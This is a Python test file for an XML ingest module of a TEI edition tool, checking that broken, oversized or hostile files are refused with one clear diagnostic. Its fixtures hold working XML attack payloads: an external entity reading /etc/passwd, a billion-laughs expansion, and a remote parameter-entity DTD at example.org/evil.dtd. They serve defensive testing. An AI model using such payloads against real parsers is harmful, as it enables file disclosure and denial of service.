"""Hostile or broken inputs are refused with one clear diagnostic, never a traceback."""

from __future__ import annotations

import os

import pytest

from edition.diagnostics import Severity
from edition.ingest.parse import MAX_FOREIGN_BYTES
from tests.ingest.helpers import foreign, ingest_text

EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE TEI [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader/><text><body><p>&secret;</p></body></text></TEI>
"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader/><text><body><p>&lol9;</p></body></text></TEI>
"""
PARAMETER = """<?xml version="1.0"?>
<!DOCTYPE TEI [ <!ENTITY % remote SYSTEM "http://example.org/evil.dtd"> %remote; ]>
<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader/><text><body><p>x</p></body></text></TEI>
"""


def refused(text, tmp_path, code):
    """Ingest `text`; it must give None and exactly one error, with `code`."""
    encoded, reporter = ingest_text(text, tmp_path)
    errors = [d for d in reporter.diagnostics if d.severity == Severity.ERROR]
    assert encoded is None
    assert [d.code for d in errors] == [code], [str(d) for d in reporter.diagnostics]
    return str(errors[0])


@pytest.mark.parametrize("text, where",
                         [(EXTERNAL, "2:17"), (LAUGHS, "3:2"), (PARAMETER, "2:17")],
                         ids=["external-entity", "billion-laughs", "parameter-entity"])
def test_entity_declarations_are_refused_at_the_first_one(text, where, tmp_path):
    message = refused(text, tmp_path, "foreign-entity")
    assert f"foreign.xml:{where}: error: the DOCTYPE declares entities" in message
    assert "root:" not in message       # nothing of /etc/passwd is ever read


def test_entities_are_refused_in_utf16_too(tmp_path):
    data = EXTERNAL.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>')
    assert "foreign.xml:2:17: error:" in refused(data.encode("utf-16"), tmp_path, "foreign-entity")


def test_a_doctype_without_entities_is_ignored(tmp_path):
    text = foreign("<div><p>Plain words.</p></div>").replace(
        "<TEI ", '<!DOCTYPE TEI SYSTEM "http://example.org/tei_all.dtd">\n<TEI ', 1)
    encoded, reporter = ingest_text(text, tmp_path)
    assert encoded is not None
    assert "foreign-doctype" in [d.code for d in reporter.diagnostics]
    assert not reporter.failed()


def test_a_file_that_is_not_xml(tmp_path):
    message = refused("Dear Sir,\nthis is a letter & not XML.\n", tmp_path, "foreign-malformed")
    assert message.startswith(str(tmp_path / "foreign.xml") + ":1:") or "foreign.xml:1:" in message
    assert "not well-formed XML" in message


def test_broken_xml_points_at_the_line(tmp_path):
    text = foreign("<div><p>open\n\n<hi>never closed</p></div>")
    message = refused(text, tmp_path, "foreign-malformed")
    assert ":5:" in message or ":6:" in message or ":7:" in message, message


def test_a_root_that_is_not_tei(tmp_path):
    message = refused('<?xml version="1.0"?><html><body><p>x</p></body></html>', tmp_path,
                      "foreign-not-tei")
    assert "the root is <html> in no namespace" in message


def test_tei_without_namespace_is_named(tmp_path):
    message = refused("<TEI><text><body><p>x</p></body></text></TEI>", tmp_path,
                      "foreign-not-tei")
    assert "<TEI> in no namespace" in message


def test_tei_without_a_body(tmp_path):
    refused('<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader/></TEI>', tmp_path,
            "foreign-not-tei")


def test_a_huge_file_is_refused_before_parsing(tmp_path):
    path = tmp_path / "foreign.xml"
    with path.open("wb") as handle:       # sparse: 20 MB + 1 byte of NULs, never parsed
        handle.truncate(MAX_FOREIGN_BYTES + 1)
    from edition.ingest import parse
    calls = []
    original = parse._parse
    parse._parse = lambda *args: calls.append(args) or original(*args)
    try:
        encoded, reporter = ingest_text(path.read_bytes(), tmp_path)
    finally:
        parse._parse = original
    assert encoded is None and calls == []
    assert [d.code for d in reporter.diagnostics] == ["foreign-too-large"]
    assert "limit for a TEI document is 20,971,520" in str(reporter.diagnostics[0])
    os.remove(path)


def test_an_empty_file(tmp_path):
    refused("", tmp_path, "foreign-empty")


def test_an_entity_of_an_external_dtd_is_never_read(tmp_path):
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY x "LEAKED">\n', encoding="utf-8")
    text = foreign("<div><p>before &x; after</p></div>").replace(
        "<TEI ", f'<!DOCTYPE TEI SYSTEM "{dtd.as_uri()}">\n<TEI ', 1)
    message = refused(text, tmp_path, "foreign-entity")
    assert "entity reference &x; is not defined" in message
    assert "LEAKED" not in message


def test_a_deeply_nested_file_is_refused(tmp_path):
    body = "<div><p>" + "<hi>" * 300 + "deep" + "</hi>" * 300 + "</p></div>"
    assert "Excessive depth" in refused(foreign(body), tmp_path, "foreign-malformed")


def test_an_xml_id_used_twice_is_read_with_a_warning(tmp_path):
    body = "<div xml:id='L1'>\n<p xml:id='L1'>first</p><p xml:id='2nd'>second</p></div>"
    encoded, reporter = ingest_text(foreign(body), tmp_path)
    assert encoded is not None and not reporter.failed()
    assert [str(d).split("foreign.xml:")[1] for d in reporter.diagnostics
            if d.code == "foreign-id"] == [
        "5:15: warning: ID L1 already defined (and 1 more): the file is read all the same, as "
        "the ids of a foreign file are not kept [foreign-id]"]
    assert [p.text for p in encoded.tei.iterfind(".//{*}body//{*}p")] == ["first", "second"]


def test_an_id_clash_does_not_hide_the_fault_of_a_broken_file(tmp_path):
    text = foreign("<div><p xml:id='a'>x</p><p xml:id='a'>y</p>\n<hi>never closed</p></div>")
    message = refused(text, tmp_path, "foreign-malformed")
    assert "already defined" not in message and "mismatch" in message, message


def test_a_file_read_despite_its_ids_expands_no_entity(tmp_path):
    dtd = tmp_path / "evil.dtd"
    dtd.write_text('<!ENTITY x "LEAKED">\n', encoding="utf-8")
    body = "<div><p>before &x; after</p><p xml:id='a'>x</p><p xml:id='a'>y</p></div>"
    text = foreign(body).replace("<TEI ", f'<!DOCTYPE TEI SYSTEM "{dtd.as_uri()}">\n<TEI ', 1)
    message = refused(text, tmp_path, "foreign-entity")   # the clash last: read again
    assert "entity reference &x; is not defined" in message
    assert "LEAKED" not in message
